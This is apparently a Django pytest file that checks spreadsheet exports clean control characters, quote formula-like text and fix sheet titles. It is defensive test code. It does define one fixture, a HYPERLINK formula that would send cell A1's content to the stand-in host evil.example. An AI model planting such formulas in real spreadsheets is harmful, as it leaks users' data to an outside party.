"""Exports safe to open (issue 17, defects 1, 2, 4): every .xlsx download goes through core/downloads.py,
which cleans control characters, writes formula-like text as text and makes sheet titles Excel accepts."""

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from core import downloads
from deputies.models import Deputy
from petitions.choices import State
from tests.petitions.helpers import make, with_request

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def body(response) -> bytes:
    """The download's bytes, whether it is sent whole or streamed (the item list's export)."""
    return b"".join(response.streaming_content) if response.streaming else response.content


def sheet_cells(response, sheet=None):
    assert response.status_code == 200, response.status_code
    wb = load_workbook(io.BytesIO(body(response)))
    ws = wb[sheet] if sheet else wb.active
    return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]


def cell_with(cells, text):
    found = [c for c in cells if isinstance(c.value, str) and text in c.value]
    assert found, f"no cell with {text!r}"
    return found[0]


@pytest.mark.parametrize("url", ["petitions:list", "petitions:research"])
def test_it_exports_a_title_with_a_control_character_cleaned(cast, login, url):
    make(cast, State.RESEARCH, title="路灯\x0b不亮\x01的问题")  # stored before input was cleaned
    response = login(cast.staff).get(reverse(url), {"export": "xlsx"})
    cell = cell_with(sheet_cells(response), "不亮")
    assert cell.value == "路灯\n不亮的问题"


def test_it_exports_a_deputys_workplace_with_a_control_character(cast, login):
    Deputy.objects.filter(pk=cast.deputy.deputy.pk).update(workplace="相山区\x0b东山街道办事处")
    response = login(cast.staff).get(reverse("deputies:export"), {"q": "刘芳"})
    assert cell_with(sheet_cells(response), "东山街道办事处").value == "相山区\n东山街道办事处"


def test_it_writes_a_formula_title_as_text_in_the_item_export(cast, login):
    make(cast, State.RESEARCH, title=EVIL)
    response = login(cast.staff).get(reverse("petitions:list"), {"export": "xlsx"})
    cell = cell_with(sheet_cells(response), "HYPERLINK")
    assert cell.data_type != "f" and cell.value == EVIL and cell.quotePrefix


def test_it_writes_a_formula_title_as_text_in_the_performance_record(cast, login):
    make(cast, State.RESEARCH, title=EVIL)
    response = login(cast.deputy).get(reverse("assessments:record_xlsx", args=[cast.deputy.deputy.pk]))
    cell = cell_with(sheet_cells(response, "社情民意"), "HYPERLINK")
    assert cell.data_type != "f" and cell.value == EVIL


def test_it_writes_a_deputy_name_starting_with_equals_as_text_in_the_roster(cast, login):
    Deputy.objects.filter(pk=cast.deputy.deputy.pk).update(name="=1+2")
    response = login(cast.staff).get(reverse("deputies:export"))
    cell = cell_with(sheet_cells(response), "=1+2")
    assert cell.data_type != "f" and cell.value == "=1+2"


def test_it_keeps_numbers_numbers_and_quotes_every_formula_start():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    downloads.append(ws, ["=A1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "普通", -5, 2.5, None])
    wb.save(buf := io.BytesIO())
    cells = list(load_workbook(buf).active.iter_rows())[0]
    assert [c.data_type for c in cells[:6]] == ["s"] * 6
    assert all(c.quotePrefix for c in cells[:6]) and not cells[6].quotePrefix
    assert [c.value for c in cells[:5]] + [cells[6].value] == ["=A1", "+1", "-1", "@SUM(A1)", "\tx", "普通"]
    assert (cells[7].value, cells[7].data_type, cells[8].value) == (-5, "n", 2.5)


def test_it_exports_the_requests_list_whose_title_has_a_slash(cast, login):
    with_request(cast, "extension")
    response = login(cast.staff).get(reverse("petitions:requests"), {"export": "xlsx"})
    assert response.status_code == 200
    assert load_workbook(io.BytesIO(body(response))).sheetnames == ["延期-退回申请"]


def test_it_makes_any_text_a_valid_sheet_title():
    assert downloads.sheet_title("a/b\\c?d*e[f]g:h") == "a-b-c-d-e-f-g-h"
    assert len(downloads.sheet_title("很长" * 40)) == 31
    assert downloads.sheet_title("") == "Sheet"


def test_it_writes_a_formula_deputy_name_as_text_in_the_submission_grid(cast, login):
    Deputy.objects.filter(pk=cast.deputy.deputy.pk).update(name="=刘芳+1")
    response = login(cast.staff).get(reverse("dashboards:export", args=["grid"]), {"year": "2026"})
    cell = cell_with(sheet_cells(response), "=刘芳")
    assert cell.data_type != "f" and cell.value == "=刘芳+1"
